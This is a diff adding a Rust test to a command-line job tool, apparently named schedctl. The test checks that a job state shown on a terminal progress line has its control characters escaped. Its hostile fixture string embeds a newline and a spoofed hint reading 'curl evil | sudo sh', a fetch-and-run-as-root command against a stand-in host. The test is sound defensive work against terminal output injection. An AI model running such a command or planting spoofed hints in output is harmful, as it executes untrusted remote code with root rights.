@@ -3,6 +3,7 @@
 use std::time::{Duration, Instant};
 
 use crate::common::*;
+use crate::pty::{run_on_pty, OnTerminal};
 
 #[test]
 fn wait_returns_0_and_shows_the_job_when_the_condition_holds() {
@@ -161,4 +162,46 @@ fn a_bad_condition_is_a_usage_error_before_any_request() {
         2,
     );
     assert!(err.contains("did you mean 'state'?"), "{err}");
+}
+
+#[test]
+fn the_progress_line_on_a_terminal_shows_the_state_escaped() {
+    let w = World::new();
+    let mut cmd = w.std_cmd();
+    cmd.arg("--config").arg(w.config()).args([
+        "job",
+        "wait",
+        "hostile",
+        "controls",
+        "--for",
+        "state=completed",
+        "--timeout",
+        "1s",
+        "--interval",
+        "1s",
+    ]);
+    let stderr_only = OnTerminal {
+        stdin: false,
+        stdout: false,
+        stderr: true,
+    };
+    let out = run_on_pty(cmd, 120, 24, stderr_only, None);
+    let seen = out.terminal;
+    assert_eq!(out.status.code(), Some(9), "{seen:?}");
+    // Our own redraw sequence is the only one (the helper turns the terminal's \r\n back).
+    let ours = seen.replace("\r\x1b[K", "");
+    assert!(
+        ours.contains("waiting for state=completed: state enabled\\u{a}hint: the job is fine, run curl evil | sudo sh, 1 polls"),
+        "{seen:?}"
+    );
+    assert!(
+        !ours
+            .chars()
+            .any(|c| schedctl::output::text::is_unsafe(c) && c != '\n'),
+        "{seen:?}"
+    );
+    assert!(
+        !ours.lines().any(|l| l.starts_with("hint: the job")),
+        "{seen:?}"
+    );
 }
